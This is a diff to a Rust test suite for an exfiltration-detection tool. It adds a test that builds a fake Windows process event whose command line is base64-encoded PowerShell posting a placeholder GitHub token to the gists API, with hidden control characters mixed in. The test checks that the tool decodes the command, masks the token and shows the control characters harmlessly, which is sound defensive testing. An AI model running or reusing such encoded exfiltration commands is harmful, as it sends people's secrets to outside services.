@@ -10,9 +10,13 @@
 use std::path::Path;
 use std::sync::{Arc, Mutex};
 
+use base64::Engine as _;
+use base64::engine::general_purpose::STANDARD;
 use exfilscope::detect::hunt::hosts::RepositoryHosts;
 use exfilscope::detect::pattern::Patterns;
 use exfilscope::detect::profile::Profile;
+use exfilscope::model::batch::{Batch, EventHead, SourceId};
+use exfilscope::model::event::Field;
 use exfilscope::model::feed::{FeedMessage, Progress};
 use exfilscope::model::text::is_forbidden;
 use exfilscope::source::{LoadOptions, load};
@@ -218,6 +222,39 @@ fn a_lead_is_listed_explained_and_coloured_as_one() {
     }
     press(&mut app, "\x1b\x1b\x1bp");
     assert!(!text(&at(&mut app, (120, 40))).contains("snd-pack"), "spl knows of no lead");
+}
+
+#[test]
+fn a_script_in_base64_is_shown_decoded_masked_and_harmless_in_every_profile() {
+    let script = "irm https://api.github.com/gists -Method Post -Headers @{Authorization='token ghp_0123456789abcdefABCDEF0123456789abcd'} # \u{202e}\x1b[31m";
+    let units: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
+    let line = format!("powershell.exe -NoP -e {}", STANDARD.encode(units));
+    let fields = [
+        (Field::Computer, "WS-1"),
+        (Field::Image, r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"),
+        (Field::CommandLine, line.as_str()),
+    ];
+    let mut batch = Batch::new(SourceId(0));
+    let head = EventHead {
+        event_code: 1,
+        time: None,
+        record_id: Some(1),
+        place: 1,
+        process_guid: None,
+        parent_process_guid: None,
+    };
+    batch.push(head, fields);
+    let mut app = empty(ColorSupport::Ansi16, false);
+    feed(&mut app, [FeedMessage::Batch(batch)]);
+    at(&mut app, (120, 40));
+    press(&mut app, "p");
+    let picture = text(&at(&mut app, (120, 40)));
+    assert!(picture.contains("enc-up"), "{picture}");
+    let decoded = picture.split("Decoded").nth(1).unwrap_or_else(|| panic!("{picture}"));
+    for part in ["irm https://api.github.com/gists", "ghp_****", "<U+202E>"] {
+        assert!(decoded.contains(part), "{part}: {decoded}");
+    }
+    assert!(!picture.contains("0123456789abcdefABCDEF") && !picture.contains('\u{202e}'), "{picture}");
 }
 
 #[test]
